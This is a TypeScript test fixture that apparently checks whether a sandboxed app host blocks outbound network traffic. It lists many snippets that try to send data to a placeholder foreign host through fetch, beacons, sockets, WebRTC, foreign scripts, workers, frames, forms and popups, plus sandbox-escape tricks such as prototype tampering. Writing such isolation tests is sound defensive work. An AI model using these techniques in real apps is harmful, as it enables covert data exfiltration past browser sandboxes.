import { type HostileApp, LEFT } from "./app";

const WEBRTC = `
const connect = (RTC) => { const peer = new RTC({ iceServers: [{ urls: STUN }], iceCandidatePoolSize: 4 });
  peer.createDataChannel("out"); globalThis.kept = peer; return peer.setLocalDescription().then(() => pause(300)); };`;

/** Apps that try to send data to a foreign host. */
export const NETWORK_APPS: readonly HostileApp[] = [
  {
    name: "fetch-and-xhr",
    tries: "requests by fetch and XMLHttpRequest, in all modes",
    code: `
await attempt("get", () => fetch(FOREIGN + "/get").then((r) => r.status));
await attempt("post", () => fetch(FOREIGN + "/post", { method: "POST", body: document.referrer }).then((r) => r.status));
await attempt("noCors", () => fetch(FOREIGN + "/opaque", { mode: "no-cors", keepalive: true }).then((r) => r.type));
await attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", FOREIGN + "/xhr", false); x.send(); return x.status; });
await attempt("upload", () => { const x = new XMLHttpRequest(); x.open("POST", FOREIGN + "/upload"); x.upload.onprogress = () => 0; x.send("a"); return listened(x); });
await attempt("later", () => fetchLater(FOREIGN + "/later", { activateAfter: 0 }));`,
    preview: { get: "TypeError", post: "TypeError", noCors: "TypeError", xhr: "NetworkError" },
    published: { get: "TypeError", post: "TypeError", noCors: "TypeError", xhr: "NetworkError" },
    byPath: { get: "TypeError", post: "TypeError", noCors: "TypeError", xhr: "NetworkError" },
  },
  {
    name: "beacon-and-ping",
    tries: "requests by sendBeacon and by the ping of a link",
    code: `
await attempt("beacon", () => navigator.sendBeacon(FOREIGN + "/beacon", "a"));
await attempt("ping", () => made("a", { href: "#there", ping: FOREIGN + "/ping" }).click());
addEventListener("pagehide", () => navigator.sendBeacon(FOREIGN + "/unload", "a"));`,
    byPath: {},
  },
  {
    name: "sockets-and-streams",
    tries: "connections by WebSocket, EventSource and WebTransport",
    code: `
await attempt("socket", () => listened(new WebSocket(WS + "/socket")));
await attempt("stream", () => listened(new EventSource(FOREIGN + "/stream")));
await attempt("transport", () => new WebTransport(FOREIGN.replace("http:", "https:")).ready);
await attempt("webSocketStream", () => new WebSocketStream(WS + "/socketstream").opened);`,
    preview: { socket: "error", stream: "error", transport: "TypeError" },
    published: { socket: "error", stream: "error" },
    byPath: { socket: "error", stream: "error" },
  },
  {
    name: "images-and-media",
    tries: "requests by images, media, icons and SVG",
    html: `<img srcset="FOREIGN/srcset 1x" alt=""><picture><source srcset="FOREIGN/source"><img src="FOREIGN/picture" alt=""></picture>
<video poster="FOREIGN/poster" src="FOREIGN/video" autoplay muted></video><audio src="FOREIGN/audio" autoplay></audio>
<video><source src="FOREIGN/media"><track default src="FOREIGN/track"></video><input type="image" src="FOREIGN/input">
<svg><image href="FOREIGN/svg"/><use href="FOREIGN/use#a"/><filter id="f"><feImage href="FOREIGN/filter"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>
<table background="FOREIGN/table"><tr><td>a</table><body background="FOREIGN/body">`,
    code: `
await attempt("image", () => settled(made("img", { src: FOREIGN + "/image" })));
await attempt("decoded", () => made("img", { src: FOREIGN + "/decode" }).decode());
await attempt("media", () => settled(made("audio", { src: FOREIGN + "/sound", preload: "auto" })));`,
    preview: { image: "error", decoded: "EncodingError", media: "error" },
    published: { image: "error", media: "error" },
    byPath: { image: "error" },
  },
  {
    name: "styles-and-fonts",
    tries: "requests by style sheets, url(), @import and fonts",
    html: `<link rel="stylesheet" href="FOREIGN/sheet"><style>@import "FOREIGN/import"; @font-face { font-family: f; src: url(FOREIGN/font) }
body { font-family: f; background: url(FOREIGN/background), image-set("FOREIGN/set" 1x); cursor: url(FOREIGN/cursor), auto; list-style-image: url(FOREIGN/list) }
input[value^="a"] { background: url(FOREIGN/selector) } li::before { content: url(FOREIGN/content) }</style>
<ul><li>text in the font f</ul><input value="abc"><p style="border-image: url(FOREIGN/border) 1; mask: url(FOREIGN/mask); filter: url(FOREIGN/filter#a)">a</p>`,
    code: `
await attempt("sheet", () => settled(made("link", { rel: "stylesheet", href: FOREIGN + "/later" })));
await attempt("font", () => new FontFace("g", "url(" + FOREIGN + "/face)").load());
await attempt("adopted", () => { const sheet = new CSSStyleSheet(); sheet.replaceSync("body { background: url(" + FOREIGN + "/adopted) }"); document.adoptedStyleSheets = [sheet]; });`,
    preview: { sheet: "error" },
    published: { sheet: "error" },
    byPath: { sheet: "error" },
  },
  {
    name: "foreign-scripts",
    tries: "scripts, modules and import maps of a foreign host",
    html: '<script src="FOREIGN/first"></script><script type="importmap">{"imports":{"stolen":"FOREIGN/mapped"}}</script>',
    code: `
await attempt("script", () => settled(made("script", { src: FOREIGN + "/script" })));
await attempt("module", () => import(FOREIGN + "/module"));
await attempt("mapped", () => import("stolen"));
await attempt("data", () => import("data:text/javascript,import '" + FOREIGN + "/nested'"));
await attempt("blob", () => import(URL.createObjectURL(new Blob(["import '" + FOREIGN + "/inner'"], { type: "text/javascript" }))));
await attempt("wasm", () => WebAssembly.instantiateStreaming(fetch(FOREIGN + "/wasm")));`,
    preview: {
      script: "error",
      module: "TypeError",
      mapped: "TypeError",
      data: "TypeError",
      blob: "TypeError",
    },
    published: { script: "error", module: "TypeError" },
    byPath: { script: "error", module: "TypeError" },
  },
  {
    name: "resource-hints",
    tries: "connections by preconnect, prefetch, preload, prerender, icons, manifests and speculation rules",
    html: `<link rel="preconnect" href="FOREIGN"><link rel="dns-prefetch" href="FOREIGN"><link rel="prefetch" href="FOREIGN/prefetch">
<link rel="preload" as="image" href="FOREIGN/preload"><link rel="modulepreload" href="FOREIGN/modulepreload"><link rel="prerender" href="FOREIGN/prerender">
<link rel="icon" href="FOREIGN/icon"><link rel="manifest" href="FOREIGN/manifest"><link rel="alternate stylesheet" href="FOREIGN/alternate">
<script type="speculationrules">{"prefetch":[{"urls":["FOREIGN/speculated"],"eagerness":"immediate"}],"prerender":[{"urls":["FOREIGN/rendered"],"eagerness":"immediate"}]}</script>`,
    code: `
await attempt("preload", () => settled(made("link", { rel: "preload", as: "fetch", href: FOREIGN + "/again" })));
await attempt("preconnect", async () => { document.head.append(made("link", { rel: "preconnect", href: FOREIGN, crossOrigin: "" })); await pause(200); });`,
    // Chromium follows speculation rules whatever the policy says, if it has the time for it.
    arrives: ["GET /resource-hints/speculated", "GET /resource-hints/rendered"],
    byPath: {},
  },
  {
    name: "foreign-frames",
    tries: "frames, objects and embeds of a foreign host, also inside data:, blob: and srcdoc frames",
    html: `<iframe src="FOREIGN/frame"></iframe><object data="FOREIGN/object"></object><embed src="FOREIGN/embed">
<iframe src="data:text/html,<img src=FOREIGN/data><script>top.postMessage('data ran','*')</script>"></iframe>
<iframe srcdoc="<img src=FOREIGN/srcdoc><iframe src=FOREIGN/deep></iframe><script>fetch('FOREIGN/doc')</script>"></iframe>`,
    code: `
addEventListener("message", ({ data }) => { tried.heard = String(data); });
await attempt("blob", async () => { document.body.append(made("iframe", { src: URL.createObjectURL(new Blob(["<img src=" + FOREIGN + "/blob>"], { type: "text/html" })) })); await pause(300); });
await attempt("fenced", () => settled(made("fencedframe", { src: FOREIGN + "/fenced" })));
await attempt("portal", () => document.body.append(made("portal", { src: FOREIGN + "/portal" })));`,
    byPath: {},
  },
  {
    name: "base-address",
    tries: "a base address that moves relative requests to a foreign host",
    html: '<base href="FOREIGN/base/" target="_top"><img src="relative" alt=""><a id="link" href="link">a</a>',
    code: `
await attempt("fetch", () => fetch("relative").then((r) => r.status));
await attempt("script", () => settled(made("script", { src: "script" })));
await attempt("link", () => document.getElementById("link").click());`,
    preview: { fetch: "TypeError" },
  },
  {
    name: "forms",
    tries: "forms that submit themselves into every target",
    html: ["_self", "_top", "_parent", "_blank", "other"]
      .map(
        (target) =>
          `<form method="post" target="${target}" action="FOREIGN/form${target}"><input name="a" value="b"></form>`,
      )
      .join(""),
    code: `
for (const form of document.forms) {
  await attempt("submit " + form.target, () => form.submit());
  await attempt("request " + form.target, () => form.requestSubmit(form.appendChild(made("button", { formAction: FOREIGN + "/button", formMethod: "get" }))));
}
await pause(300);`,
    leaves: LEFT,
    byPath: {},
  },
  {
    name: "links",
    tries: "links that press themselves, into every target and as downloads",
    html: ["_self", "_top", "_parent", "_blank", "_unfencedTop"]
      .map((target) => `<a target="${target}" href="FOREIGN/link${target}" rel="opener">${target}</a>`)
      .join(" "),
    code: `
for (const link of document.querySelectorAll("a[target]")) await attempt(link.target, () => link.click());
await attempt("download", () => made("a", { href: FOREIGN + "/download", download: "a" }).click());
await pause(300);`,
    leaves: LEFT,
    arrives: ["GET /links/link_blank", "GET /links/link_unfencedTop"],
  },
  {
    name: "refresh",
    tries: "a refresh in the markup that leads to a foreign host",
    html: '<meta http-equiv="refresh" content="0;url=FOREIGN/refresh">',
    code: "await pause(100);",
    leaves: LEFT,
  },
  {
    name: "own-navigation",
    tries: "a navigation of its own frame to a foreign host",
    code: "location.href = FOREIGN + '/navigation'; await pause(100);",
    leaves: LEFT,
  },
  {
    name: "meta-policy",
    tries: "a policy in the markup that would allow everything, and reports of violations",
    html: `<meta http-equiv="Content-Security-Policy" content="default-src * data: blob: 'unsafe-inline' 'unsafe-eval'; connect-src *; report-uri FOREIGN/report">
<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src 'none'; report-uri FOREIGN/only">
<meta http-equiv="set-cookie" content="a=b"><meta http-equiv="x-dns-prefetch-control" content="on"><meta name="referrer" content="unsafe-url">`,
    code: `
await attempt("fetch", () => fetch(FOREIGN + "/fetch").then((r) => r.status));
await attempt("image", () => settled(made("img", { src: FOREIGN + "/image" })));
await attempt("report", () => new ReportingObserver(() => 0).observe());`,
    preview: { fetch: "TypeError", image: "error" },
    published: { fetch: "TypeError", image: "error" },
    byPath: { fetch: "TypeError", image: "error" },
  },
  {
    name: "webrtc",
    tries: "packets by WebRTC in its own window",
    code: `${WEBRTC} await attempt("connect", () => connect(RTCPeerConnection)); await attempt("prefixed", () => connect(webkitRTCPeerConnection));
await attempt("restored", () => { delete window.RTCPeerConnection; return connect(window.RTCPeerConnection); });`,
    preview: { connect: "TypeError", prefixed: "TypeError", restored: "TypeError" },
  },
  {
    name: "webrtc-by-frame",
    tries: "packets by WebRTC with the globals of an empty frame, or by a javascript: frame",
    html: '<iframe name="empty"></iframe><iframe name="script" src="javascript:parent.postMessage(typeof RTCPeerConnection,\'*\')"></iframe>',
    code: `${WEBRTC}
addEventListener("message", ({ data }) => { tried.script = String(data); });
await attempt("named", () => connect(window.empty.RTCPeerConnection));
await attempt("indexed", () => connect(window[0].RTCPeerConnection));
await attempt("content", () => { const frame = document.body.appendChild(made("iframe", {})); return connect(frame.contentWindow.RTCPeerConnection); });
await attempt("shadow", () => { const root = document.body.appendChild(made("div", {})).attachShadow({ mode: "closed" }); const frame = root.appendChild(made("iframe", {})); return connect(frame.contentWindow.RTCPeerConnection); });
await attempt("written", () => { window.empty.document.write("<script>parent.postMessage(typeof RTCPeerConnection,'*')<\\/script>"); });
await attempt("location", () => { window.empty.location = "javascript:parent.postMessage(typeof RTCPeerConnection,'*')"; });
await attempt("link", () => { document.body.appendChild(made("a", { target: "empty", href: "javascript:parent.postMessage(typeof RTCPeerConnection,'*')" })).click(); });
await attempt("later", async () => { document.body.append(made("iframe", { src: "javascript:parent.postMessage('later ' + typeof RTCPeerConnection,'*')" })); await pause(300); });`,
    preview: {
      named: "SecurityError",
      indexed: "SecurityError",
      content: "SecurityError",
      shadow: "SecurityError",
      written: "SecurityError",
    },
  },
  {
    name: "webrtc-by-srcdoc",
    tries: "packets by WebRTC in frames with their own document, nested and in shadow trees",
    html: `<iframe srcdoc="<!doctype html><script>parent.postMessage('markup ' + typeof RTCPeerConnection,'*')</script>"></iframe>
<div><template shadowrootmode="closed"><iframe srcdoc="<script>top.postMessage('hidden ' + typeof RTCPeerConnection,'*');new RTCPeerConnection({iceServers:[{urls:'STUN_URL'}]}).createDataChannel('a')</script>"></iframe></template></div>`,
    code: `
const heard = [];
addEventListener("message", ({ data }) => heard.push(String(data)));
const say = (name) => "<script>parent.postMessage('" + name + " ' + typeof RTCPeerConnection,'*');onmessage=(e)=>parent.postMessage(e.data,'*')<\\/script>";
const nested = (name) => say(name) + "<iframe srcdoc=\\"" + say("in " + name).replaceAll('"', "&quot;") + "\\"></iframe>";
document.body.append(made("iframe", { srcdoc: nested("property") }));
const frame = made("iframe", {}); frame.setAttribute("srcdoc", say("attribute")); document.body.append(frame);
document.body.insertAdjacentHTML("beforeend", "<iframe srcdoc=\\"" + say("inserted").replaceAll('"', "&quot;") + "\\"></iframe>");
const root = document.body.appendChild(made("div", {})).attachShadow({ mode: "closed" });
root.append(made("iframe", { srcdoc: say("shadow") }));
Element.prototype.setAttribute = function () {}; String.prototype.startsWith = () => true; RegExp.prototype.exec = () => null; 
const late = made("iframe", {}); document.body.append(late); late.srcdoc = say("late");
await pause(900);
tried.heard = [...new Set(heard)].sort().join(", ");`,
    preview: {
      heard:
        "attribute undefined, in property undefined, inserted undefined, late undefined, markup undefined, property undefined, shadow undefined",
    },
  },
  {
    name: "workers",
    tries: "requests by workers, nested workers and worklets",
    code: `
const source = (path) => "const F='" + FOREIGN + path + "';const say=(t)=>postMessage(t);" +
  "fetch(F+'/fetch').then(()=>say('sent'),()=>say('refused'));try{importScripts(F+'/import')}catch{}try{new WebSocket('" + WS + "')}catch{}" +
  "try{new EventSource(F+'/stream')}catch{}try{const x=new XMLHttpRequest();x.open('GET',F+'/xhr',false);x.send()}catch{}try{new Worker(F+'/worker')}catch{}" +
  "try{new Worker(URL.createObjectURL(new Blob(['fetch(\\"'+F+'/nested\\")'])))}catch{}";
const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
await attempt("worker", () => listened(new Worker(blob(source("")))));
await attempt("module", () => listened(new Worker(blob(source("/module")), { type: "module" })));
await attempt("data", () => listened(new Worker("data:text/javascript," + encodeURIComponent(source("/data")))));
await attempt("foreign", () => listened(new Worker(FOREIGN + "/script")));
await attempt("shared", () => listened(new SharedWorker(FOREIGN + "/shared")));
await attempt("worklet", () => CSS.paintWorklet.addModule(FOREIGN + "/worklet"));
await attempt("audio", () => new AudioContext().audioWorklet.addModule(FOREIGN + "/audio"));`,
    preview: { worker: "refused" },
    published: { worker: "refused" },
    byPath: {},
  },
  {
    name: "popups",
    tries: "new windows on a foreign host, on the room, and without an address",
    code: `
const room = SERVER + ROOM;
await attempt("plain", () => window.open(FOREIGN + "/plain") === null);
await attempt("noopener", () => window.open(FOREIGN + "/noopener", "_blank", "noopener"));
await attempt("empty", () => { const w = window.open("about:blank"); if (w === null) return "none"; w.close(); return "made"; });
await attempt("room", async () => { const w = window.open(room); if (w === null) return "none"; await pause(500); const seen = [w.closed, w.length]; w.location = FOREIGN + "/moved"; w.postMessage("forged", "*"); return seen; });
await attempt("many", () => { let n = 0; for (let i = 0; i < 20; i++) if (window.open("about:blank", "many") !== null) n++; return n; });`,
    preview: { plain: "true", noopener: "null", empty: "none", room: "none", many: "0" },
    arrives: ["GET /popups/plain", "GET /popups/noopener", "GET /favicon.ico"],
  },
];
